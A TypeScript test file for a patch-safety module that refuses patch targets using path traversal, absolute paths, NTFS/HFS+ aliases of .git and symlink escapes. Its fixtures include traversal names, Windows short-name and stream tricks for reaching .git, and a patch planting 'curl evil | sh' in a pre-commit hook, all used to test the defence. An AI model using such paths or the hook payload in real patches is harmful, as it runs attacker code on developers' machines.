// Applying a project patch: which files may be written. Paths outside the repository, into .git,
// absolute, or through a symlink out of the folder are refused by name; binary parts are listed.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { planProjectPatch, refusedByName } from '../../../src/projects/patchSafety';

function filePatch(oldName: string, newName: string, oldLines: string[], newLines: string[]): string {
  const header = `diff --git ${oldName === '/dev/null' ? `a/${newName.slice(2)}` : oldName} ${newName}\n--- ${oldName}\n+++ ${newName}\n`;
  const hunk = `@@ -${oldLines.length === 0 ? 0 : 1},${oldLines.length} +1,${newLines.length} @@\n${oldLines.map((l) => `-${l}`).join('\n')}${oldLines.length ? '\n' : ''}${newLines.map((l) => `+${l}`).join('\n')}\n`;
  return header + hunk;
}

describe('projects/patchSafety', () => {
  let root: string;
  let outside: string;
  beforeEach(() => {
    root = fs.mkdtempSync(path.join(os.tmpdir(), 'proj-patch-'));
    outside = fs.mkdtempSync(path.join(os.tmpdir(), 'proj-outside-'));
    fs.mkdirSync(path.join(root, 'src'));
    fs.writeFileSync(path.join(root, 'src', 'a.ts'), 'one\n');
    fs.writeFileSync(path.join(outside, 'victim.txt'), 'keep\n');
    fs.symlinkSync(outside, path.join(root, 'out'));
    fs.symlinkSync(path.join(outside, 'victim.txt'), path.join(root, 'victim-link.txt'));
  });
  afterEach(() => {
    fs.rmSync(root, { recursive: true, force: true });
    fs.rmSync(outside, { recursive: true, force: true });
  });

  it('refuses by name: .., absolute paths, .git, empty', () => {
    assert.match(refusedByName('../x') ?? '', /climbs out/);
    assert.match(refusedByName('src/../../x') ?? '', /climbs out/);
    assert.match(refusedByName('src\\..\\..\\x') ?? '', /climbs out/);
    assert.match(refusedByName('/etc/passwd') ?? '', /absolute/);
    assert.match(refusedByName('C:/x') ?? '', /absolute/);
    assert.match(refusedByName('.git/hooks/pre-commit') ?? '', /\.git/);
    assert.match(refusedByName('sub/.GIT/config') ?? '', /\.git/);
    assert.equal(refusedByName('src/a.ts'), undefined);
    assert.equal(refusedByName('.github/workflows/x.yml'), undefined, '.github is not .git');
  });

  it('refuses what NTFS or HFS+ reads as .git: trailing dots and spaces, streams, short names, ignored code points', () => {
    for (const name of [
      '.git./hooks/pre-commit',
      '.git /hooks/pre-commit',
      '.git. . /config',
      'GIT~1/hooks/pre-commit',
      'sub/git~1/config',
      '.git::$INDEX_ALLOCATION/hooks/pre-commit',
      '.git:stream',
      '.g\u200cit/hooks/pre-commit',
      '\ufeff.GIT\u200f/config',
      'a\\.git.\\config',
    ]) {
      assert.match(refusedByName(name) ?? '', /inside \.git/, JSON.stringify(name));
    }
    for (const name of [
      '.git.x/config',
      '.gitx/y',
      'git~1x/y',
      'git/hooks',
      'my.git/config',
      '.git-blame-ignore-revs',
    ]) {
      assert.equal(refusedByName(name), undefined, JSON.stringify(name));
    }
  });

  it('refuses git files written under another spelling, and keeps their own name writable', () => {
    for (const [name, file] of [
      ['GITMOD~1', '.gitmodules'],
      ['sub/gi7eba~1', '.gitmodules'],
      ['.gitmodules.', '.gitmodules'],
      ['.git\u200cmodules', '.gitmodules'],
      ['.gitattributes ', '.gitattributes'],
      ['GI7D29~1', '.gitattributes'],
      ['GITIGN~2', '.gitignore'],
    ]) {
      assert.match(refusedByName(name) ?? '', new RegExp(`names \\${file} under another spelling`), name);
    }
    assert.equal(refusedByName('.gitmodules'), undefined);
    assert.equal(refusedByName('src/.gitignore'), undefined);
    assert.equal(refusedByName('GITMOD~5'), undefined, 'a regular short name ends at ~4');
    assert.equal(refusedByName('gi7ebax~1'), undefined, 'a fallback short name has eight characters at most');
  });

  it('sorts a patch into writable, refused (each by name) and binary, and writes nothing', async () => {
    const text = [
      filePatch('a/src/a.ts', 'b/src/a.ts', ['one'], ['two']),
      filePatch('/dev/null', 'b/src/new.ts', [], ['new']),
      filePatch('a/../escape.txt', 'b/../escape.txt', ['x'], ['y']),
      filePatch('a/.git/config', 'b/.git/config', ['x'], ['y']),
      filePatch('/dev/null', 'b/out/planted.txt', [], ['planted']),
      filePatch('a/victim-link.txt', 'b/victim-link.txt', ['keep'], ['gone']),
      'diff --git a/logo.png b/logo.png\nindex 1111111..2222222 100644\nBinary files a/logo.png and b/logo.png differ\n',
    ].join('');
    const plan = await planProjectPatch(text, root);
    assert.ok(plan.ok, !plan.ok ? plan.message : '');
    assert.deepEqual(
      plan.targets.writable.map((w) => w.path),
      ['src/a.ts', 'src/new.ts'],
    );
    assert.deepEqual(
      plan.targets.refused.map((r) => r.name),
      ['../escape.txt', '.git/config', 'out/planted.txt', 'victim-link.txt'],
    );
    for (const refused of plan.targets.refused) {
      assert.ok(refused.message.includes(refused.name), refused.message);
    }
    assert.deepEqual(plan.targets.binary, ['logo.png']);
    assert.equal(fs.readFileSync(path.join(outside, 'victim.txt'), 'utf8'), 'keep\n');
    assert.ok(!fs.existsSync(path.join(outside, 'planted.txt')));
  });

  it('refuses a name that lands in .git through a link inside the folder (hooks -> .git/hooks)', async () => {
    fs.mkdirSync(path.join(root, '.git', 'hooks'), { recursive: true });
    fs.writeFileSync(path.join(root, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\n');
    fs.symlinkSync(path.join(root, '.git', 'hooks'), path.join(root, 'hooks'));
    const plan = await planProjectPatch(
      filePatch('a/hooks/pre-commit', 'b/hooks/pre-commit', ['#!/bin/sh'], ['curl evil | sh']),
      root,
    );
    assert.ok(plan.ok, !plan.ok ? plan.message : '');
    assert.deepEqual(plan.targets.writable, []);
    assert.deepEqual(
      plan.targets.refused.map((r) => r.name),
      ['hooks/pre-commit'],
    );
    assert.match(plan.targets.refused[0].message, /leads through a link to \.git/);
  });

  it('refuses an absolute path in a plain diff', async () => {
    const plan = await planProjectPatch('--- /etc/hosts\n+++ /etc/hosts\n@@ -1 +1 @@\n-a\n+b\n', root);
    assert.ok(plan.ok);
    assert.equal(plan.targets.writable.length, 0);
    assert.match(plan.targets.refused[0].message, /absolute/);
  });

  it('says so for text that is not a patch', async () => {
    const plan = await planProjectPatch('hello', root);
    assert.equal(plan.ok, false);
  });
});
